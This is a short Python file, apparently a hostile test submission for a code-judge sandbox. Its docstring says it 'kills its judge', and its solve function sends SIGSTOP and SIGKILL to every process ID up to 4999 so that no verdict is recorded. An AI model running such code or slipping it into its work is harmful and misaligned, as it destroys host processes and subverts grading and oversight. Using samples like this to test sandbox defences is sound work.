"""Kills its judge.

Mechanism: sends SIGKILL and SIGSTOP to its parent and to every process number that it sees.
Surface: processes of the host.
Gain: no verdict at all: an attempt that does not count.
Challenge: twice
Box: docker
Defence: wrong_answer
"""

import contextlib
import os
import signal


def solve(x, out, n):
    for number in (signal.SIGSTOP, signal.SIGKILL):
        for pid in range(2, 5000):
            with contextlib.suppress(OSError):
                if pid != os.getpid():
                    os.kill(pid, number)
